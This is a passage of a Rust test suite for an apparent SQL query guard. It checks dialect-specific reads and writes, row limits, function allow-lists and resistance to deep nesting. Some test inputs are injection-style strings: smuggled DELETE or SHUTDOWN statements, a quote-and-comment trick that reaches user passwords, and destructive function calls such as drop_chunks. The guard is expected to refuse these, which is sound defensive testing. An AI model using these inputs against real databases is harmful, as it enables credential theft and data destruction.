            "SELECT * FROM tickets WHERE title = 'it''s; DROP TABLE users'",
        ),
        (&ALL, "SELECT * FROM tickets WHERE id IN (1, 2, 3)"),
        (&ALL, "SELECT * FROM tickets WHERE id BETWEEN 1 AND 9"),
        (&ALL, "SELECT * FROM tickets WHERE a IS NOT NULL AND NOT b"),
        (
            &ALL,
            "SELECT CASE WHEN age > 3 THEN 'old' ELSE 'new' END FROM tickets",
        ),
        (&ALL, "SELECT coalesce(a, b, 'none') FROM tickets"),
        (
            &ALL,
            "SELECT upper(title), lower(title), length(title), trim(title) FROM tickets",
        ),
        (
            &ALL,
            "SELECT * FROM tickets WHERE customer_id IN (SELECT id FROM customers WHERE name = 'x')",
        ),
        (
            &ALL,
            "SELECT * FROM (SELECT id FROM tickets) AS x WHERE x.id > 1",
        ),
        (&ALL, "WITH x AS (SELECT * FROM tickets) SELECT * FROM x"),
        (
            &ALL,
            "WITH x AS (SELECT 1 AS a), y AS (SELECT a FROM x) SELECT * FROM y, tickets",
        ),
        (
            &ALL,
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 9) SELECT * FROM n",
        ),
        (
            &ALL,
            "SELECT id FROM tickets UNION SELECT id FROM customers",
        ),
        (
            &ALL,
            "SELECT id FROM tickets UNION ALL SELECT id FROM customers ORDER BY 1",
        ),
        (
            &ALL,
            "SELECT a, row_number() OVER (PARTITION BY b ORDER BY c) FROM tickets",
        ),
        (&ALL, "SELECT cast(a AS INTEGER) FROM tickets"),
        (
            &ALL,
            "SELECT * FROM tickets WHERE EXISTS (SELECT 1 FROM customers WHERE customers.id = tickets.customer_id)",
        ),
        (&ALL, "SELECT round(price * 1.19, 2) FROM tickets"),
        (&ALL, "SELECT -- the open ones\n * FROM tickets"),
        (&ALL, "SELECT * FROM tickets /* all of them */"),
        (&ALL, "/* for the weekly report */ SELECT * FROM tickets"),
        (&ALL, "SELECT * FROM public.tickets"),
        (&ALL, "SELECT 'gr\u{fc}\u{df}e \u{1f600}' FROM tickets"),
        (&ALL, "SELECT a || ' ' || b FROM tickets"),
        (&ALL, "SELECT *\nFROM tickets\n\tWHERE id = 1\r\n"),
        (&[Postgres], "SELECT * FROM TICKETS"),
        (&[Postgres], "SELECT * FROM \"tickets\""),
        (
            &[Postgres],
            "SELECT a::int, b ->> 'c' FROM tickets WHERE title ILIKE 'x%'",
        ),
        (
            &[Postgres],
            "SELECT now() - interval '1 day', date_trunc('day', a) FROM tickets",
        ),
        (
            &[Postgres],
            "SELECT * FROM tickets WHERE id = ANY(ARRAY[1,2])",
        ),
        (
            &[Postgres],
            "SELECT string_agg(title, ',' ORDER BY id) FILTER (WHERE a) FROM tickets",
        ),
        (&[Postgres], "SELECT * FROM generate_series(1, 10) AS g"),
        (
            &[Postgres],
            "SELECT DISTINCT ON (a) a, b FROM tickets ORDER BY a, b",
        ),
        (
            &[Postgres],
            "SELECT * FROM tickets FETCH FIRST 10 ROWS ONLY",
        ),
        (&[Postgres, Sqlite], "VALUES (1), (2)"),
        (
            &[Postgres],
            "SELECT jsonb_build_object('a', a) FROM tickets",
        ),
        (&[Postgres], "SELECT extract(year FROM a) FROM tickets"),
        (&[Postgres], "SELECT $1, $2 FROM tickets"),
        (
            &[MySql],
            "SELECT `id`, `title` FROM `tickets` WHERE `id` = 7",
        ),
        (
            &[MySql],
            "SELECT concat(a, b), ifnull(a, b), date_format(c, '%Y') FROM tickets LIMIT 5, 10",
        ),
        (
            &[MySql],
            "SELECT group_concat(title SEPARATOR ', ') FROM tickets",
        ),
        (
            &[MySql],
            "SELECT * FROM tickets # the open ones\n WHERE a = 1",
        ),
        (&[MySql], "SELECT * FROM tickets WHERE a <=> NULL"),
        (&[Sqlite], "SELECT * FROM [tickets] WHERE a GLOB 'x*'"),
        (&[Sqlite], "SELECT * FROM Tickets"),
        (
            &[Sqlite],
            "SELECT strftime('%Y', a), ifnull(a, 'x') FROM tickets",
        ),
    ];
    let changes: &[(&[Dialect], &str)] = &[
        (
            &ALL,
            "INSERT INTO tickets (id, title) VALUES (1, 'x'), (2, 'y')",
        ),
        (
            &ALL,
            "INSERT INTO tickets SELECT * FROM customers WHERE id = 7",
        ),
        (&ALL, "UPDATE tickets SET state = 'closed' WHERE id = 7"),
        (
            &ALL,
            "UPDATE tickets SET state = 'closed', note = title WHERE id IN (1, 2) AND state = 'open'",
        ),
        (&ALL, "DELETE FROM tickets WHERE id = 7"),
        (&ALL, "DELETE FROM tickets WHERE id = 7 OR id = 8"),
        (
            &ALL,
            "DELETE FROM tickets WHERE customer_id IN (SELECT id FROM customers WHERE gone)",
        ),
        (&ALL, "SELECT * FROM tickets"),
        (
            &[Postgres],
            "INSERT INTO tickets (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1 RETURNING id",
        ),
        (
            &[Postgres],
            "UPDATE tickets SET a = c.a FROM customers c WHERE c.id = tickets.customer_id",
        ),
        (
            &[Postgres],
            "DELETE FROM tickets USING customers c WHERE c.id = tickets.customer_id RETURNING *",
        ),
        (
            &[Postgres],
            "WITH x AS (SELECT id FROM customers) DELETE FROM tickets WHERE id IN (SELECT id FROM x)",
        ),
        (&[Postgres], "SELECT * FROM tickets WHERE id = 1 FOR UPDATE"),
        (
            &[MySql],
            "INSERT INTO tickets (id) VALUES (1) ON DUPLICATE KEY UPDATE a = 1",
        ),
        (&[MySql], "UPDATE tickets SET a = 1 WHERE id = 1 LIMIT 1"),
        (&[Sqlite], "INSERT OR IGNORE INTO tickets VALUES (1)"),
    ];
    let (mut asked, mut wrong) = (0, Vec::new());
    for (rule, cases) in [(reading as fn(Dialect) -> Rule, reads), (writing, changes)] {
        for (dialects, text) in cases {
            for dialect in *dialects {
                asked += 1;
                if let Err(said) = verdict(&rule(*dialect), text) {
                    wrong.push(format!("{dialect}: {text}\n  said: {said}"));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(asked >= 200, "{asked}");
}

#[test]
fn a_query_says_how_many_rows_it_returns_where_a_rule_asks() {
    let rule = Rule {
        limit_at_most: Some(100),
        ..reading(Postgres)
    };
    for text in [
        "SELECT * FROM tickets LIMIT 100",
        "SELECT * FROM tickets LIMIT 1 OFFSET 5",
        "SELECT * FROM tickets FETCH FIRST 100 ROWS ONLY",
        "(SELECT * FROM tickets) LIMIT 7",
    ] {
        assert_eq!(verdict(&rule, text), Ok(()), "{text}");
    }
    for text in [
        "SELECT * FROM tickets",
        "SELECT * FROM tickets LIMIT 101",
        "SELECT * FROM tickets LIMIT ALL",
        "SELECT * FROM tickets LIMIT 50 + 51",
        "SELECT * FROM tickets LIMIT -1",
        "SELECT * FROM tickets LIMIT 1e9",
        "SELECT * FROM (SELECT * FROM tickets LIMIT 1) x",
        "SELECT * FROM tickets FETCH FIRST 5 ROWS WITH TIES",
        "SELECT * FROM tickets FETCH FIRST 5 PERCENT ROWS ONLY",
        "SELECT * FROM tickets LIMIT (SELECT 5)",
        "SELECT 1 LIMIT 1 UNION SELECT * FROM tickets",
    ] {
        assert!(verdict(&rule, text).is_err(), "{text}");
    }
}

#[test]
fn a_change_that_returns_rows_does_not_say_how_many() {
    let rule = Rule {
        limit_at_most: Some(100),
        ..writing(Postgres)
    };
    let change = "UPDATE tickets SET a = 1 WHERE id > 7";
    assert_eq!(verdict(&rule, change), Ok(()));
    for change in [
        change,
        "DELETE FROM tickets WHERE id > 7",
        "INSERT INTO tickets SELECT * FROM customers",
    ] {
        assert!(verdict(&rule, &format!("{change} RETURNING *")).is_err());
    }
}

#[test]
fn only_listed_functions_may_be_called_where_a_rule_lists_them() {
    let functions = ["count", "pg_sleep"].map(str::to_owned).into();
    let rule = Rule {
        functions: Some(functions),
        ..reading(Postgres)
    };
    assert_eq!(
        verdict(&rule, "SELECT count(*), pg_sleep(1) FROM tickets"),
        Ok(())
    );
    assert!(verdict(&rule, "SELECT upper(title) FROM tickets").is_err());
    // One of that name elsewhere is another function.
    assert!(verdict(&rule, "SELECT evil.count(title) FROM tickets").is_err());
    assert!(verdict(&rule, "SELECT * FROM evil.count(1)").is_err());
}

/// However long a text is and however it nests, it is answered, on a thread with an ordinary stack.
#[test]
fn no_text_is_too_long_or_too_deep_to_be_answered() {
    let thread = std::thread::Builder::new().stack_size(2 << 20);
    let deep = |piece: &str, end: &str, count: usize| {
        format!("SELECT {}1{}", piece.repeat(count), end.repeat(count))
    };
    let texts = move || {
        let mut texts = Vec::new();
        for count in [40, 400, 700, 1400, 1499, 5_000, 30_000, 200_000] {
            texts.push(deep("(", ")", count));
            texts.push(deep("NOT ", "", count));
            texts.push(deep("- ", "", count));
            texts.push(deep("CASE WHEN ", " THEN 1 END", count));
            texts.push(deep("(SELECT ", ")", count));
            texts.push(deep("f(", ")", count));
            texts.push(format!("SELECT 1{}", " OR 1".repeat(count)));
            texts.push(format!("SELECT 1{}", "::int".repeat(count)));
            texts.push(format!("SELECT a{}", "[1]".repeat(count)));
            texts.push(format!("SELECT 1{}", " IS NULL".repeat(count)));
            texts.push(format!("SELECT 1{}", " UNION SELECT 1".repeat(count)));
            texts.push(format!("SELECT 1{}", ", 1".repeat(count)));
            texts.push(format!("SELECT * FROM t{}", " JOIN t ON a".repeat(count)));
            texts.push(format!("SELECT 1{}", "; SELECT 1".repeat(count)));
            texts.push(format!("SELECT a{}", ".a".repeat(count)));
            texts.push("'".repeat(count));
            texts.push("/*".repeat(count));
        }
        texts
    };
    let done = thread.spawn(move || {
        for text in texts() {
            for dialect in ALL {
                let _ = read(&text, dialect);
            }
        }
    });
    done.unwrap().join().expect("no overflow, no panic");
}

#[test]
fn whatever_is_asked_is_answered() {
    use proptest::prelude::*;
    let word = prop::sample::select(vec![
        "SELECT",
        "FROM",
        "tickets",
        "users",
        "WITH",
        "x",
        "AS",
        "(",
        ")",
        ",",
        "*",
        "1",
        "'a'",
        "UNION",
        "DELETE",
        "INSERT",
        "INTO",
        "UPDATE",
        "SET",
        "=",
        "WHERE",
        "a",
        "JOIN",
        "ON",
        ";",
        "/*",
        "*/",
        "-- ",
        "\n",
        "RETURNING",
        "LIMIT",
        "f(",
        "VALUES",
        "\"",
        "`",
        "RECURSIVE",
        "LATERAL",
        "FOR",
        "OR",
        "AND",
        "NOT",
        "$$",
        "\u{e9}",
        "[",
        "]",
        "::",
        "{",
        "}",
        "@",
        "#",
    ]);
    let text = prop::collection::vec(word, 0..24).prop_map(|words| words.join(" "));
    let wide = Rule {
        statements: [Kind::Select, Kind::Insert, Kind::Update, Kind::Delete].into(),
        reads: None,
        writes: None,
        has_where: false,
        statements_at_most: 100,
        ..reading(Generic)
    };
    proptest!(ProptestConfig::with_cases(3000), |(text in text, any in ".{0,60}")| {
        for dialect in ALL {
            for text in [&text, &any] {
                let narrow = verdict(&reading(dialect), text);
                // What a narrow rule allows, a wide one does.
                if narrow.is_ok() {
                    prop_assert_eq!(verdict(&Rule { dialect, ..wide.clone() }, text), Ok(()));
                }
            }
        }
    });
}

#[test]
fn what_only_some_servers_read_as_another_statement_table_or_quote_is_refused() {
    for text in [
        "SELECT 1 DELETE FROM tickets",
        "SELECT (1) DELETE FROM tickets",
        "SELECT a FROM tickets SHUTDOWN",
        "SELECT a[ ' ], password FROM users -- ' ] FROM tickets",
    ] {
        assert!(verdict(&reading(Dialect::Generic), text).is_err(), "{text}");
    }
    for text in [
        "SELECT * FROM users_fts('smith')",
        "SELECT * FROM main.users_fts('smith')",
    ] {
        for dialect in [Dialect::Sqlite, Dialect::Generic] {
            assert!(verdict(&reading(dialect), text).is_err(), "{text}");
        }
    }
    assert!(
        verdict(
            &reading(Dialect::Sqlite),
            "SELECT value FROM tickets, json_each(tickets.labels)"
        )
        .is_ok()
    );
    for call in [
        "DropGeometryTable('users')",
        "drop_chunks('users')",
        "graphql.resolve('{}')",
        "pg_stat_get_activity(NULL)",
    ] {
        let text = format!("SELECT {call}");
        assert!(
            verdict(&reading(Dialect::Postgres), &text).is_err(),
            "{text}"
        );
    }
}
